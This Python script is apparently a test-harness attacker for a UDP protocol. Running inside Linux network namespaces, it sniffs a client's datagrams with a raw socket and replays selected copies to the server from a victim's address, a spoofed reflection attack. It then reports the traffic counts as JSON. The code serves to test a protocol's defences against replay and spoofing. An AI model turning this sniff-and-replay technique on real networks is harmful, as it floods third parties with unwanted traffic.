#!/usr/bin/env python3
"""An attacker who copies a client's datagrams and fires them at the server from
another host's address, the victim's, to make the server send the victim traffic.

Started in the namespace of a router on one of the client's paths: it captures the
client's datagrams as they arrive there (AF_PACKET, before they queue behind the
router's shaped link to the server), then moves into the victim's namespace for its
UDP socket, so its copies come from the victim's address over an unqueued link and
usually reach the server before the originals, as a racing attacker's would; and
whatever the server sends back arrives here. It copies the datagrams whose nonce
counter's low bits are clear under --copy-mask, and counts both directions until a
line on stdin, then prints the counts as JSON.
"""

import argparse
import ctypes
import json
import os
import select
import socket
import struct
import sys

ETH_P_IP = 0x0800
CLONE_NEWNET = 0x40000000
TRANSPORT_TYPES = (3, 4, 5)


def enter_netns(name: str) -> None:
    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    fd = os.open(f"/run/netns/{name}", os.O_RDONLY)
    try:
        if libc.setns(fd, CLONE_NEWNET) != 0:
            errno = ctypes.get_errno()
            raise OSError(errno, f"setns {name}: {os.strerror(errno)}")
    finally:
        os.close(fd)


def udp_payload_to(frame: bytes, port: int) -> bytes | None:
    ip = frame[14:]
    if len(ip) < 28 or ip[0] >> 4 != 4 or ip[9] != 17:
        return None
    header_len = (ip[0] & 0x0F) * 4
    if struct.unpack("!H", ip[header_len + 2:header_len + 4])[0] != port:
        return None
    payload = ip[header_len + 8:]
    if len(payload) < 32 or payload[0] not in TRANSPORT_TYPES:
        return None
    return bytes(payload)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--capture-interface", required=True)
    parser.add_argument("--server", required=True, help="IP:port of the server")
    parser.add_argument("--victim-netns", required=True)
    parser.add_argument("--victim", required=True, help="IP:port to send the copies from")
    parser.add_argument("--copy-mask", type=lambda text: int(text, 0), default=0x1F)
    args = parser.parse_args()
    host, port = args.server.rsplit(":", 1)
    server = (host, int(port))
    victim_host, victim_port = args.victim.rsplit(":", 1)

    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    sniffer.bind((args.capture_interface, ETH_P_IP))
    enter_netns(args.victim_netns)
    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    victim.bind((victim_host, int(victim_port)))
    victim.setblocking(False)
    print("capturing", file=sys.stderr, flush=True)

    counts = {"copies": 0, "sent_bytes": 0, "received": 0, "received_bytes": 0}
    while True:
        readable, _, _ = select.select([sniffer, victim, sys.stdin], [], [])
        if sys.stdin in readable:
            break
        if victim in readable:
            while True:
                try:
                    reply = victim.recv(65535)
                except BlockingIOError:
                    break
                counts["received"] += 1
                counts["received_bytes"] += len(reply)
        if sniffer in readable:
            payload = udp_payload_to(sniffer.recv(65535), server[1])
            if payload is None:
                continue
            counter = struct.unpack("!Q", payload[8:16])[0]
            if counter & args.copy_mask:
                continue
            counts["copies"] += 1
            victim.sendto(payload, server)
            counts["sent_bytes"] += len(payload)
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
